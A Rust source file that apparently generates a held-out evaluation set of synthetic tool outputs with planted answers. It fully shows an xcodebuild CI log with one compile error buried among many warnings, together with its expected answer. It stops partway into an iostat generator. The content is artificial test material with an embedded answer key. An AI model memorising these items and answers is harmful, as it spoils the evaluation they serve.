//! A SEVENTH HELD-OUT SET of issue 30, written by someone who had not read
//! the answer code and never run against it while being written: eight
//! outputs of tools no other set uses, each with a question in a user's
//! words and the answer its generator planted. Measured unread; its
//! misses were read since, for their classes.
//!
//! One fact: `xcodebuild … build` of an iOS shop app (the one compile
//! error, among hundreds of warnings, some about variables named `error`,
//! files named for errors and a SwiftLint TODO naming the same property),
//! `iostat -x -t 5` of a database server (the disk pinned near fully busy
//! for a minute, among disks with more throughput and one busy at 80–89 %
//! during a compaction), the JSON log of an etcd member (the new leader
//! after the old one dropped away, among a pre-vote it ignored, probes of
//! the lost peer and apply requests that took too long), Falco's JSON
//! events (the interactive shell opened in a production pod, among shells
//! in development, staging and `-preprod` namespaces, and API-server
//! contacts of the same pod's replicas).
//! Every item: `pdsh -w stor[01-56] zpool status` (the disks ZFS faulted
//! or can no longer open, among disks with a few checksum or read errors,
//! degraded vdevs and spares), `clamscan -r` of a file share (the files
//! with malware, among an archive over the size limit, files named for
//! trojans and infections, and unreadable files), `snyk test --json` of a
//! Node app (the packages with critical vulnerabilities, among high ones
//! scored 8.9 and descriptions that call a flaw critical), Suricata's
//! `eve.json` (the hosts a trojan alert names, one of them as the
//! destination of the C2 server's reply, among adware check-ins, inbound
//! exploit attempts of severity 1 and policy alerts).
//!
//! The jq programs of the JSON-lines outputs (etcd, Falco, Suricata) read
//! the records as one array (`.[]`), as the fourth set's do; every
//! expected result was checked with the real jq (`jq -s` for those).

use serde_json::{Value, json};

use super::super::heldout::{DAY, h, hex, letters, uuid};
use super::{Case, jq_string, pick, pretty};

pub(super) fn cases() -> Vec<Case> {
    vec![
        xcodebuild_compile_error(),
        iostat_busy_disk(),
        etcd_new_leader(),
        falco_prod_shell(),
        zpool_dead_disks(),
        clamscan_malware(),
        snyk_critical_packages(),
        suricata_compromised_hosts(),
    ]
}

/// `2026-11-27T02:14:05` of `s` seconds after midnight.
fn iso(s: u64) -> String {
    format!(
        "2026-11-{:02}T{:02}:{:02}:{:02}",
        27 + s / 86_400,
        s / 3600 % 24,
        s / 60 % 60,
        s % 60
    )
}

/// One Xcode target: its name, project, sources' folder and files.
struct Target {
    name: &'static str,
    project: &'static str,
    dir: String,
    files: Vec<&'static str>,
}

/// `xcodebuild -workspace Shop.xcworkspace -scheme Shop … build` of an iOS
/// shop app on CI (Xcode 15.2): CocoaPods targets in Swift, four local
/// Swift packages, the app, then (as the parallel build finished them) the
/// Objective-C and C pods and the app's widgets, each
/// compile step with its `cd` and full compiler invocation, Swift and
/// clang warnings (some about variables named `error`, unreachable
/// `catch` blocks, deprecated APIs), SwiftLint's warnings from a run-script
/// phase ("0 serious"), files named `AppError.swift`,
/// `ErrorBannerView.swift` and `NetworkError.swift` that compile. One
/// file of the app does not compile: a property that no longer exists;
/// SwiftLint's TODO in `Order.swift` names the same property.
fn xcodebuild_compile_error() -> Case {
    let root = "/Users/ci/builds/shop-ios";
    let dd = format!(
        "/Users/ci/Library/Developer/Xcode/DerivedData/Shop-{}",
        letters(0, 101, 28)
    );
    let xc = "/Applications/Xcode.app/Contents/Developer";
    let tc = format!("{xc}/Toolchains/XcodeDefault.xctoolchain/usr/bin");
    let sdk =
        format!("{xc}/Platforms/iPhoneSimulator.platform/Developer/SDKs/iPhoneSimulator17.2.sdk");
    let products = format!("{dd}/Build/Products/Debug-iphonesimulator");
    let inter = format!("{dd}/Build/Intermediates.noindex");
    let pods = |sub: &str| format!("{root}/Pods/{sub}");
    let package = |name: &str| format!("{root}/Packages/{name}/Sources/{name}");
    let targets = vec![
        Target {
            name: "Alamofire",
            project: "Pods",
            dir: pods("Alamofire/Source"),
            files: vec![
                "Core/AFError.swift",
                "Core/DataRequest.swift",
                "Core/DataStreamRequest.swift",
                "Core/DownloadRequest.swift",
                "Core/HTTPHeaders.swift",
                "Core/HTTPMethod.swift",
                "Core/ParameterEncoder.swift",
                "Core/ParameterEncoding.swift",
                "Core/Protected.swift",
                "Core/Request.swift",
                "Core/RequestTaskMap.swift",
                "Core/Response.swift",
                "Core/Session.swift",
                "Core/SessionDelegate.swift",
                "Core/URLConvertible+URLRequestConvertible.swift",
                "Core/UploadRequest.swift",
                "Features/AlamofireExtended.swift",
                "Features/AuthenticationInterceptor.swift",
                "Features/CachedResponseHandler.swift",
                "Features/Combine.swift",
                "Features/EventMonitor.swift",
                "Features/MultipartFormData.swift",
                "Features/MultipartUpload.swift",
                "Features/NetworkReachabilityManager.swift",
                "Features/RedirectHandler.swift",
                "Features/RequestInterceptor.swift",
                "Features/ResponseSerialization.swift",
                "Features/RetryPolicy.swift",
                "Features/ServerTrustEvaluation.swift",
                "Features/Validation.swift",
            ],
        },
        Target {
            name: "Kingfisher",
            project: "Pods",
            dir: pods("Kingfisher/Sources"),
            files: vec![
                "Cache/CacheSerializer.swift",
                "Cache/DiskStorage.swift",
                "Cache/ImageCache.swift",
                "Cache/MemoryStorage.swift",
                "Cache/Storage.swift",
                "General/ImageSource/Resource.swift",
                "General/ImageSource/Source.swift",
                "General/KF.swift",
                "General/KFOptionsSetter.swift",
                "General/Kingfisher.swift",
                "General/KingfisherError.swift",
                "General/KingfisherManager.swift",
                "General/KingfisherOptionsInfo.swift",
                "Image/Image.swift",
                "Image/ImageProcessor.swift",
                "Image/Placeholder.swift",
                "Networking/ImageDataProcessor.swift",
                "Networking/ImageDownloader.swift",
                "Networking/ImageDownloaderDelegate.swift",
                "Networking/ImagePrefetcher.swift",
                "Networking/RetryStrategy.swift",
                "Networking/SessionDataTask.swift",
                "Views/AnimatedImageView.swift",
                "Extensions/ImageView+Kingfisher.swift",
            ],
        },
        Target {
            name: "Networking",
            project: "Networking",
            dir: package("Networking"),
            files: vec![
                "APIClient.swift",
                "AuthInterceptor.swift",
                "Endpoint.swift",
                "HTTPStatus.swift",
                "JSONDecoder+Shop.swift",
                "NetworkError.swift",
                "Pagination.swift",
                "Reachability.swift",
                "RequestBuilder.swift",
                "RetryPolicy.swift",
            ],
        },
        Target {
            name: "DesignSystem",
            project: "DesignSystem",
            dir: package("DesignSystem"),
            files: vec![
                "Badge.swift",
                "CardView.swift",
                "Colors.swift",
                "ErrorBannerView.swift",
                "Icons.swift",
                "LoadingView.swift",
                "PriceLabel.swift",
                "PrimaryButton.swift",
                "SecondaryButton.swift",
                "Spacing.swift",
                "Toast.swift",
                "Typography.swift",
            ],
        },
        Target {
            name: "Analytics",
            project: "Analytics",
            dir: package("Analytics"),
            files: vec![
                "AnalyticsClient.swift",
                "Batcher.swift",
                "Consent.swift",
                "ErrorEvent.swift",
                "Event.swift",
                "ScreenView.swift",
            ],
        },
        Target {
            name: "Persistence",
            project: "Persistence",
            dir: package("Persistence"),
            files: vec![
                "CartStore.swift",
                "CoreDataStack.swift",
                "KeychainStore.swift",
                "Migrations.swift",
                "OrderCache.swift",
                "PersistenceError.swift",
            ],
        },
        Target {
            name: "Shop",
            project: "Shop",
            dir: format!("{root}/Shop"),
            files: vec![
                "App/AppCoordinator.swift",
                "App/AppDelegate.swift",
                "App/AppError.swift",
                "App/SceneDelegate.swift",
                "Home/BannerCarousel.swift",
                "Home/CategoryGrid.swift",
                "Home/HomeView.swift",
                "Home/HomeViewModel.swift",
                "Catalog/FilterSheet.swift",
                "Catalog/ProductDetailView.swift",
                "Catalog/ProductDetailViewModel.swift",
                "Catalog/ProductListView.swift",
                "Catalog/ProductListViewModel.swift",
                "Catalog/SortOption.swift",
                "Cart/CartItemRow.swift",
                "Cart/CartView.swift",
                "Cart/CartViewModel.swift",
                "Cart/PromoCodeField.swift",
                "Checkout/ApplePayHandler.swift",
                "Checkout/CheckoutView.swift",
                "Checkout/CheckoutViewModel.swift",
                "Checkout/OrderSummaryView.swift",
                "Checkout/PaymentError.swift",
                "Checkout/PaymentSheetView.swift",
                "Checkout/PaymentSheetViewModel.swift",
                "Checkout/ShippingAddressForm.swift",
                "Orders/Order.swift",
                "Orders/OrderDetailView.swift",
                "Orders/OrderListView.swift",
                "Orders/OrderListViewModel.swift",
                "Orders/OrderStatus.swift",
                "Orders/ReturnsFlow.swift",
                "Account/AccountView.swift",
                "Account/AddressBook.swift",
                "Account/LoginView.swift",
                "Account/LoginViewModel.swift",
                "Account/NotificationSettings.swift",
                "Account/SignUpView.swift",
                "Search/SearchSuggestions.swift",
                "Search/SearchView.swift",
                "Search/SearchViewModel.swift",
                "Support/ChatView.swift",
                "Support/ErrorReportForm.swift",
                "Support/HelpCenterView.swift",
            ],
        },
        Target {
            name: "SDWebImage",
            project: "Pods",
            dir: pods("SDWebImage/SDWebImage"),
            files: vec![
                "Core/NSData+ImageContentType.m",
                "Core/SDAnimatedImage.m",
                "Core/SDAnimatedImageView.m",
                "Core/SDDiskCache.m",
                "Core/SDImageCache.m",
                "Core/SDImageCacheConfig.m",
                "Core/SDImageCoderHelper.m",
                "Core/SDImageGIFCoder.m",
                "Core/SDImageIOCoder.m",
                "Core/SDImageLoader.m",
                "Core/SDMemoryCache.m",
                "Core/SDWebImageDownloader.m",
                "Core/SDWebImageDownloaderOperation.m",
                "Core/SDWebImageError.m",
                "Core/SDWebImageManager.m",
                "Core/SDWebImagePrefetcher.m",
                "Core/UIImage+Transform.m",
                "Core/UIImageView+WebCache.m",
                "Core/UIView+WebCache.m",
                "Private/SDImageAssetManager.m",
            ],
        },
        Target {
            name: "GoogleUtilities",
            project: "Pods",
            dir: pods("GoogleUtilities/GoogleUtilities"),
            files: vec![
                "AppDelegateSwizzler/GULAppDelegateSwizzler.m",
                "Environment/GULAppEnvironmentUtil.m",
                "Environment/SecureStorage/GULKeychainStorage.m",
                "Environment/SecureStorage/GULKeychainUtils.m",
                "Logger/GULLogger.m",
                "MethodSwizzler/GULSwizzler.m",
                "Network/GULMutableDictionary.m",
                "Network/GULNetwork.m",
                "Network/GULNetworkURLSession.m",
                "Reachability/GULReachabilityChecker.m",
                "UserDefaults/GULUserDefaults.m",
            ],
        },
        Target {
            name: "nanopb",
            project: "Pods",
            dir: pods("nanopb"),
            files: vec!["pb_common.c", "pb_decode.c", "pb_encode.c"],
        },
        Target {
            name: "FirebaseCrashlytics",
            project: "Pods",
            dir: pods("FirebaseCrashlytics/Crashlytics"),
            files: vec![
                "Crashlytics/Components/FIRCLSContext.m",
                "Crashlytics/Components/FIRCLSCrashedMarkerFile.c",
                "Crashlytics/Components/FIRCLSProcess.c",
                "Crashlytics/Components/FIRCLSUserLogging.m",
                "Crashlytics/Controllers/FIRCLSReportManager.m",
                "Crashlytics/Handlers/FIRCLSException.mm",
                "Crashlytics/Handlers/FIRCLSMachException.c",
                "Crashlytics/Handlers/FIRCLSSignal.c",
                "Crashlytics/Helpers/FIRCLSAllocate.c",
                "Crashlytics/Helpers/FIRCLSFile.m",
                "Crashlytics/Models/FIRCLSExceptionModel.m",
                "Crashlytics/Models/FIRCLSSettings.m",
                "Crashlytics/Unwind/Compact/FIRCLSCompactUnwind.c",
                "Crashlytics/Unwind/Dwarf/FIRCLSDwarfUnwind.c",
                "Crashlytics/Unwind/FIRCLSUnwind.c",
            ],
        },
        Target {
            name: "ShopWidgets",
            project: "Shop",
            dir: format!("{root}/ShopWidgets"),
            files: vec![
                "DealsWidget.swift",
                "OrderStatusWidget.swift",
                "ShopWidgets.swift",
                "WidgetProvider.swift",
            ],
        },
    ];
    let planted = "Checkout/PaymentSheetViewModel.swift";
    // Swift warnings: message, the source line, the caret line.
    let swift_warnings = [
        (
            "variable 'error' was never mutated; consider changing to 'let' constant",
            "        var error: Error? = nil",
            "        ~~~ ^",
        ),
        (
            "'catch' block is unreachable because no errors are thrown in 'do' block",
            "        } catch {",
            "          ^",
        ),
        (
            "no calls to throwing functions occur within 'try' expression",
            "        let value = try decoder.decode(payload)",
            "                    ^",
        ),
        (
            "immutable value 'error' was never used; consider replacing with '_' or removing it",
            "        case .failure(let error):",
            "                          ^~~~~",
        ),
        (
            "'keyWindow' was deprecated in iOS 13.0: Should not be used for applications that support multiple scenes as it returns a key window across all connected scenes",
            "        let window = UIApplication.shared.keyWindow",
            "                                          ^",
        ),
        (
            "capture of 'self' with non-sendable type 'Self' in a `@Sendable` closure",
            "            self.reload()",
            "            ^",
        ),
        (
            "result of call to 'save()' is unused",
            "        store.save()",
            "              ^   ~~",
        ),
        (
            "will never be executed",
            "        logger.error(\"unreachable state \\(state)\")",
            "        ^",
        ),
        (
            "initialization of immutable value 'formatter' was never used; consider replacing with assignment to '_' or removing it",
            "        let formatter = NumberFormatter()",
            "        ~~~~^~~~~~~~~",
        ),
    ];
    let clang_warnings = [
        (
            "'UIGraphicsBeginImageContextWithOptions' is deprecated: first deprecated in iOS 17.0 - Replace with UIGraphicsImageRenderer. [-Wdeprecated-declarations]",
            "    UIGraphicsBeginImageContextWithOptions(size, NO, scale);",
            "    ^",
        ),
        (
            "implicit conversion loses integer precision: 'NSUInteger' (aka 'unsigned long') to 'int' [-Wshorten-64-to-32]",
            "    int count = self.frames.count;",
            "        ~~~~~   ~~~~~~~~~~~~^~~~~",
        ),
        (
            "a function declaration without a prototype is deprecated in all versions of C [-Wstrict-prototypes]",
            "void FIRCLSReset() {",
            "                 ^\n                  void",
        ),
        (
            "'openURL:' is deprecated: first deprecated in iOS 10.0 [-Wdeprecated-declarations]",
            "    [[UIApplication sharedApplication] openURL:url];",
            "                                       ^~~~~~~",
        ),
        (
            "comparison of integers of different signs: 'int' and 'NSUInteger' (aka 'unsigned long') [-Wsign-compare]",
            "    for (int i = 0; i < errors.count; i++) {",
            "                    ~ ^ ~~~~~~~~~~~~",
        ),
    ];
    let lint_rules = [
        (
            "Line Length Violation: Line should be 120 characters or less; currently it has 134 characters",
            "line_length",
        ),
        (
            "Trailing Whitespace Violation: Lines should not have trailing whitespace",
            "trailing_whitespace",
        ),
        (
            "Identifier Name Violation: Variable name 'id' should be between 3 and 40 characters long",
            "identifier_name",
        ),
        (
            "Force Cast Violation: Force casts should be avoided",
            "force_cast",
        ),
        (
            "Function Body Length Violation: Function body should span 50 lines or less excluding comments and whitespace: currently spans 61 lines",
            "function_body_length",
        ),
        (
            "Cyclomatic Complexity Violation: Function should have complexity 10 or less; currently complexity is 12",
            "cyclomatic_complexity",
        ),
    ];
    let sim = uuid(0, 102).to_uppercase();
    let mut out = format!(
        "Command line invocation:\n    {xc}/usr/bin/xcodebuild -workspace Shop.xcworkspace -scheme Shop -configuration Debug -destination \"platform=iOS Simulator,name=iPhone 15,OS=17.2\" -resultBundlePath build/Shop.xcresult build\n\n\
         User defaults from command line:\n    IDEBuildOperationResultBundlePath = {root}/build/Shop.xcresult\n    IDEPackageSupportUseBuiltinSCM = YES\n\n\
         --- xcodebuild: WARNING: Using the first of multiple matching destinations:\n\
         {{ platform:iOS Simulator, id:{sim}, OS:17.2, name:iPhone 15 }}\n\
         {{ platform:iOS Simulator, id:{}, OS:17.2, name:iPhone 15 }}\n\
         Prepare packages\n\nComputing target dependency graph and provisioning inputs\n\n\
         Create build description\nBuild description signature: {sig}\nBuild description path: {inter}/XCBuildData/{sig}.xcbuilddata\n\
         note: Building targets in dependency order\n\
         note: Run script build phase 'SwiftLint' will be run during every build because it does not specify any outputs. To address this warning, either add output dependencies to the script phase, or configure it to run in every build by unchecking \"Based on dependency analysis\" in the script phase. (in target 'Shop' from project 'Shop')\n\
         note: Run script build phase '[CP] Embed Pods Frameworks' will be run during every build because it does not specify any outputs. To address this warning, either add output dependencies to the script phase, or configure it to run in every build by unchecking \"Based on dependency analysis\" in the script phase. (in target 'Shop' from project 'Shop')\n\n",
        uuid(1, 102).to_uppercase(),
        sig = hex(0, 103, 32),
    );
    out.push_str(&format!(
        "CreateBuildDirectory {products}\n    cd {root}/Shop.xcodeproj\n    builtin-create-build-directory {products}\n\n"
    ));
    let mut step = 0usize;
    let mut answer_seen = false;
    for t in &targets {
        let (name, project) = (t.name, t.project);
        let tail = format!("(in target '{name}' from project '{project}')");
        let cd = if project == "Pods" {
            format!("{root}/Pods")
        } else if project == "Shop" {
            root.to_string()
        } else {
            format!("{root}/Packages/{project}")
        };
        let build = format!("{inter}/{project}.build/Debug-iphonesimulator/{name}.build");
        let objects = format!("{build}/Objects-normal/arm64");
        let swift = t.files.iter().any(|f| f.ends_with(".swift"));
        out.push_str(&format!(
            "WriteAuxiliaryFile {build}/{name}.modulemap {tail}\n    cd {cd}\n    write-file {build}/{name}.modulemap\n\n"
        ));
        if name == "Shop" {
            out.push_str(&format!(
                "PhaseScriptExecution [CP]\\ Check\\ Pods\\ Manifest.lock {build}/Script-{}.sh {tail}\n    cd {root}\n    /bin/sh -c {build}/Script-{}.sh\n\n",
                hex(1, 104, 24).to_uppercase(),
                hex(1, 104, 24).to_uppercase()
            ));
            let script = hex(2, 104, 24).to_uppercase();
            out.push_str(&format!(
                "PhaseScriptExecution SwiftLint {build}/Script-{script}.sh {tail}\n    cd {root}\n    /bin/sh -c {build}/Script-{script}.sh\nLinting Swift files in current working directory\n"
            ));
            let mut violations = 0;
            for (k, f) in t.files.iter().enumerate() {
                let base = f.rsplit('/').next().unwrap_or(f);
                out.push_str(&format!("Linting '{base}' ({}/{})\n", k + 1, t.files.len()));
            }
            for (k, f) in t.files.iter().enumerate() {
                if *f == "Orders/Order.swift" {
                    out.push_str(&format!(
                        "{root}/Shop/{f}:57:9: warning: Todo Violation: TODOs should be resolved (rename grandTotal to totalAmount once the...) (todo)\n"
                    ));
                    violations += 1;
                }
                for r in 0..(h(k, 105) % 3) {
                    let (msg, id) =
                        lint_rules[(h(k * 3 + r as usize, 106) % lint_rules.len() as u64) as usize];
                    out.push_str(&format!(
                        "{root}/Shop/{f}:{}:{}: warning: {msg} ({id})\n",
                        10 + h(k * 3 + r as usize, 107) % 300,
                        1 + h(k * 3 + r as usize, 108) % 40
                    ));
                    violations += 1;
                }
            }
            out.push_str(&format!(
                "Done linting! Found {violations} violations, 0 serious in {} files.\n\n",
                t.files.len()
            ));
        }
        if swift {
            out.push_str(&format!(
                "SwiftDriver {name} normal arm64 com.apple.xcode.tools.swift.compiler {tail}\n    cd {cd}\n    builtin-SwiftDriver -- {tc}/swiftc -module-name {name} -Onone -enforce-exclusivity\\=checked @{objects}/{name}.SwiftFileList -DDEBUG -DCOCOAPODS -sdk {sdk} -target arm64-apple-ios15.0-simulator -g -module-cache-path {dd}/../../ModuleCache.noindex -Xfrontend -serialize-debugging-options -enable-testing -index-store-path {dd}/Index.noindex/DataStore -swift-version 5 -I {products}/{name} -F {products}/{name} -c -j10 -enable-batch-mode -incremental -output-file-map {objects}/{name}-OutputFileMap.json -use-frontend-parseable-output -save-temps -no-color-diagnostics -serialize-diagnostics -emit-dependencies -emit-module -emit-module-path {objects}/{name}.swiftmodule -validate-clang-modules-once -clang-build-session-file {dd}/../../ModuleCache.noindex/Session.modulevalidation -Xcc -I{build}/swift-overrides.hmap -Xcc -iquote -Xcc {build}/{name}-generated-files.hmap -Xcc -I{build}/{name}-own-target-headers.hmap -Xcc -I{build}/{name}-all-target-headers.hmap -Xcc -iquote -Xcc {build}/{name}-project-headers.hmap -Xcc -I{products}/include -Xcc -I{build}/DerivedSources-normal/arm64 -Xcc -I{build}/DerivedSources/arm64 -Xcc -I{build}/DerivedSources -Xcc -DPOD_CONFIGURATION_DEBUG\\=1 -Xcc -DDEBUG\\=1 -Xcc -DCOCOAPODS\\=1 -emit-objc-header -emit-objc-header-path {objects}/{name}-Swift.h -working-directory {cd} -experimental-emit-module-separately -disable-cmo\n\n\
                 SwiftEmitModule normal arm64 Emitting\\ module\\ for\\ {name} {tail}\n\n"
            ));
        }
        let order: Vec<usize> = {
            let mut o: Vec<usize> = (0..t.files.len()).collect();
            o.sort_by_key(|&k| h(k + step, 109));
            o
        };
        for &k in &order {
            let f = t.files[k];
            let base = f.rsplit('/').next().unwrap_or(f);
            let stem = base.rsplit_once('.').map_or(base, |s| s.0);
            let src = format!("{}/{f}", t.dir);
            step += 1;
            if f.ends_with(".swift") {
                let others: Vec<String> = (0..t.files.len())
                    .filter(|&j| j != k && (j + step).is_multiple_of(8))
                    .map(|j| format!("{}/{}", t.dir, t.files[j]))
                    .collect();
                out.push_str(&format!(
                    "SwiftCompile normal arm64 Compiling\\ {base} {src} {tail}\n    cd {cd}\n    builtin-swiftTaskExecution -- {tc}/swift-frontend -frontend -c {} -primary-file {src} -emit-dependencies-path {objects}/{stem}.d -emit-const-values-path {objects}/{stem}.swiftconstvalues -emit-reference-dependencies-path {objects}/{stem}.swiftdeps -serialize-diagnostics-path {objects}/{stem}.dia -target arm64-apple-ios15.0-simulator -Xllvm -aarch64-use-tbi -enable-objc-interop -stack-check -sdk {sdk} -I {products}/{name} -F {products}/{name} -no-color-diagnostics -enable-testing -g -module-cache-path {dd}/../../ModuleCache.noindex -swift-version 5 -enforce-exclusivity\\=checked -Onone -D DEBUG -D COCOAPODS -serialize-debugging-options -const-gather-protocols-file {objects}/{name}_const_extract_protocols.json -enable-experimental-feature DebugDescriptionMacro -empty-abi-descriptor -validate-clang-modules-once -clang-build-session-file {dd}/../../ModuleCache.noindex/Session.modulevalidation -Xcc -working-directory -Xcc {cd} -resource-dir {tc}/../lib/swift -enable-anonymous-context-mangled-names -Xcc -ivfsstatcache -Xcc {dd}/../../SDKStatCaches.noindex/iphonesimulator17.2-21C52-{}.sdkstatcache -Xcc -DPOD_CONFIGURATION_DEBUG\\=1 -Xcc -DDEBUG\\=1 -Xcc -DCOCOAPODS\\=1 -module-name {name} -frontend-parseable-output -disable-clang-spi -target-sdk-version 17.2 -target-sdk-name iphonesimulator17.2 -external-plugin-path {xc}/Platforms/iPhoneSimulator.platform/Developer/usr/lib/swift/host/plugins\\#{xc}/Platforms/iPhoneSimulator.platform/Developer/usr/bin/swift-plugin-server -o {objects}/{stem}.o -index-unit-output-path /{name}.build/Debug-iphonesimulator/{name}.build/Objects-normal/arm64/{stem}.o -index-store-path {dd}/Index.noindex/DataStore -index-system-modules\n\n",
                    others.join(" "),
                    hex(3, 110, 32)
                ));
                if name == "Shop" && f == planted {
                    out.push_str(&format!(
                        "{src}:142:31: error: value of type 'Order' has no member 'totalAmount'\n        let amount = order.totalAmount\n                     ~~~~~ ^~~~~~~~~~~\n"
                    ));
                    answer_seen = true;
                }
                if h(step, 111) % 100 < 22 {
                    let (msg, code, caret) =
                        swift_warnings[(h(step, 112) % swift_warnings.len() as u64) as usize];
                    out.push_str(&format!(
                        "{src}:{}:{}: warning: {msg}\n{code}\n{caret}\n",
                        20 + h(step, 113) % 400,
                        5 + h(step, 114) % 30
                    ));
                }
                out.push('\n');
                if step.is_multiple_of(3) {
                    out.push_str(&format!(
                        "SwiftDriverJobDiscovery normal arm64 Compiling {base} {tail}\n\n"
                    ));
                }
            } else {
                let (lang, clang) = if f.ends_with(".c") {
                    ("c", "-x c -std\\=gnu11")
                } else if f.ends_with(".mm") {
                    (
                        "objective-c++",
                        "-x objective-c++ -std\\=gnu++14 -stdlib\\=libc++ -fobjc-arc",
                    )
                } else {
                    (
                        "objective-c",
                        "-x objective-c -std\\=gnu11 -fobjc-arc -fobjc-weak",
                    )
                };
                out.push_str(&format!(
                    "CompileC {objects}/{stem}.o {src} normal arm64 {lang} com.apple.compilers.llvm.clang.1_0.compiler {tail}\n    cd {cd}\n    {tc}/clang {clang} -ivfsstatcache {dd}/../../SDKStatCaches.noindex/iphonesimulator17.2-21C52-{}.sdkstatcache -fmessage-length\\=0 -fdiagnostics-show-note-include-stack -fmacro-backtrace-limit\\=0 -fmodules -gmodules -fmodules-cache-path\\={dd}/../../ModuleCache.noindex -fmodules-prune-interval\\=86400 -fmodules-prune-after\\=345600 -fbuild-session-file\\={dd}/../../ModuleCache.noindex/Session.modulevalidation -fmodules-validate-once-per-build-session -Wnon-modular-include-in-framework-module -Werror\\=non-modular-include-in-framework-module -Wno-trigraphs -fpascal-strings -O0 -fno-common -Wno-missing-field-initializers -Wno-missing-prototypes -Werror\\=return-type -Wdocumentation -Wunreachable-code -Wno-implicit-atomic-properties -Werror\\=deprecated-objc-isa-usage -Wno-objc-interface-ivars -Werror\\=objc-root-class -Wno-arc-repeated-use-of-weak -Wimplicit-retain-self -Wduplicate-method-match -Wno-missing-braces -Wparentheses -Wswitch -Wunused-function -Wno-unused-label -Wno-unused-parameter -Wunused-variable -Wunused-value -Wempty-body -Wuninitialized -Wconditional-uninitialized -Wno-unknown-pragmas -Wno-shadow -Wno-four-char-constants -Wno-conversion -Wconstant-conversion -Wint-conversion -Wbool-conversion -Wenum-conversion -Wno-float-conversion -Wnon-literal-null-conversion -Wobjc-literal-conversion -Wshorten-64-to-32 -Wpointer-sign -Wno-newline-eof -Wno-selector -Wno-strict-selector-match -Wundeclared-selector -Wdeprecated-implementations -Wno-implicit-fallthrough -DPOD_CONFIGURATION_DEBUG\\=1 -DDEBUG\\=1 -DCOCOAPODS\\=1 -DOBJC_OLD_DISPATCH_PROTOTYPES\\=0 -isysroot {sdk} -fasm-blocks -fstrict-aliasing -Wprotocol -Wdeprecated-declarations -g -Wno-sign-conversion -Winfinite-recursion -Wcomma -Wblock-capture-autoreleasing -Wstrict-prototypes -Wno-semicolon-before-method-body -Wunguarded-availability -index-store-path {dd}/Index.noindex/DataStore -iquote {build}/{name}-generated-files.hmap -I{build}/{name}-own-target-headers.hmap -I{build}/{name}-all-target-headers.hmap -iquote {build}/{name}-project-headers.hmap -I{products}/{name}/include -I{root}/Pods/Headers/Private -I{root}/Pods/Headers/Private/{name} -I{root}/Pods/Headers/Public -I{build}/DerivedSources-normal/arm64 -I{build}/DerivedSources/arm64 -I{build}/DerivedSources -F{products}/{name} -include {root}/Pods/Target\\ Support\\ Files/{name}/{name}-prefix.pch -MMD -MT dependencies -MF {objects}/{stem}.d --serialize-diagnostics {objects}/{stem}.dia -c {src} -o {objects}/{stem}.o -index-unit-output-path /{name}.build/Debug-iphonesimulator/{name}.build/Objects-normal/arm64/{stem}.o\n",
                    hex(3, 110, 32)
                ));
                if h(step, 115) % 100 < 30 {
                    let (msg, code, caret) =
                        clang_warnings[(h(step, 116) % clang_warnings.len() as u64) as usize];
                    out.push_str(&format!(
                        "{src}:{}:{}: warning: {msg}\n{code}\n{caret}\n",
                        30 + h(step, 117) % 700,
                        5 + h(step, 118) % 30
                    ));
                    if h(step, 119).is_multiple_of(2) {
                        out.push_str("1 warning generated.\n");
                    } else {
                        out.push_str(&format!(
                            "{src}:{}:{}: warning: {}\n{}\n{}\n2 warnings generated.\n",
                            30 + h(step, 120) % 700,
                            5 + h(step, 121) % 30,
                            clang_warnings[0].0,
                            clang_warnings[0].1,
                            clang_warnings[0].2
                        ));
                    }
                }
                out.push('\n');
            }
        }
        if name == "Shop" {
            // The app does not link: its compile failed.
            continue;
        }
        if project == "Pods" {
            out.push_str(&format!(
                "Libtool {products}/{name}/lib{name}.a normal {tail}\n    cd {cd}\n    {tc}/libtool -static -arch_only arm64 -D -syslibroot {sdk} -L{products}/{name} -filelist {objects}/{name}.LinkFileList -dependency_info {objects}/{name}_libtool_dependency_info.dat -o {products}/{name}/lib{name}.a\n\n"
            ));
        } else {
            out.push_str(&format!(
                "Ld {products}/{name}.o normal {tail}\n    cd {cd}\n    {tc}/clang -Xlinker -reproducible -target arm64-apple-ios15.0-simulator -r -isysroot {sdk} -O0 -L{products} -F{products} -filelist {objects}/{name}.LinkFileList -nostdlib -Xlinker -object_path_lto -Xlinker {objects}/{name}_lto.o -Xlinker -export_dynamic -Xlinker -no_deduplicate -Xlinker -debug_variant -fobjc-link-runtime -L{xc}/Toolchains/XcodeDefault.xctoolchain/usr/lib/swift/iphonesimulator -L/usr/lib/swift -Xlinker -add_ast_path -Xlinker {objects}/{name}.swiftmodule -Xlinker -dependency_info -Xlinker {objects}/{name}_dependency_info.dat -o {products}/{name}.o\n\n"
            ));
        }
        if name == "ShopWidgets" {
            out.push_str(&format!(
                "CodeSign {products}/ShopWidgets.appex {tail}\n    cd {root}\n    \n    Signing Identity:     \"Sign to Run Locally\"\n    \n    /usr/bin/codesign --force --sign - --entitlements {build}/ShopWidgets.appex.xcent --timestamp\\=none --generate-entitlement-der {products}/ShopWidgets.appex\n\n"
            ));
        }
    }
    assert!(answer_seen);
    let failed = format!("{root}/Shop/{planted}");
    out.push_str(&format!(
        "** BUILD FAILED **\n\n\nThe following build commands failed:\n\tSwiftCompile normal arm64 Compiling\\ PaymentSheetViewModel.swift {failed} (in target 'Shop' from project 'Shop')\n\tSwiftCompile normal arm64 {failed} (in target 'Shop' from project 'Shop')\n(2 failures)\n"
    ));
    Case::fact(
        "xcodebuild, the one compile error",
        out,
        "The iOS app build on CI went red. What exactly is broken in our code, and where?",
        &[
            "PaymentSheetViewModel.swift:142:31",
            "has no member 'totalAmount'",
        ],
    )
}

/// `h(i, salt)` as a fraction in `[0, 1)`.
fn unit(i: usize, salt: u64) -> f64 {
    (h(i, salt) % 1_000_000) as f64 / 1_000_000.0
}

/// `lo + (hi - lo) × unit(i, salt)`.
fn between(i: usize, salt: u64, lo: f64, hi: f64) -> f64 {
    lo + (hi - lo) * unit(i, salt)
}

/// `iostat -x -t 5 140` on a Cassandra node (sysstat 12.5: the first report
/// since boot, then every five seconds): CPU, then seventeen devices with
/// every extended column (reads, writes, discards, flushes). The commit log
/// on an NVMe drive writes far more than any disk, a compaction keeps
/// `sdf` 80–89 % busy for over a minute; then for a minute one data disk,
/// `sdk`, is pinned near 100 % busy with reads waiting hundreds of
/// milliseconds, iowait rising, its worst report 99.87 %.
fn iostat_busy_disk() -> Case {
    let disks: Vec<String> = (b'a'..=b'l').map(|c| format!("sd{}", c as char)).collect();
    // In /proc/diskstats' order: loop, sd, dm, nvme.
    let mut devices: Vec<String> = vec!["loop0".into(), "loop1".into()];
    devices.extend(disks.iter().cloned());
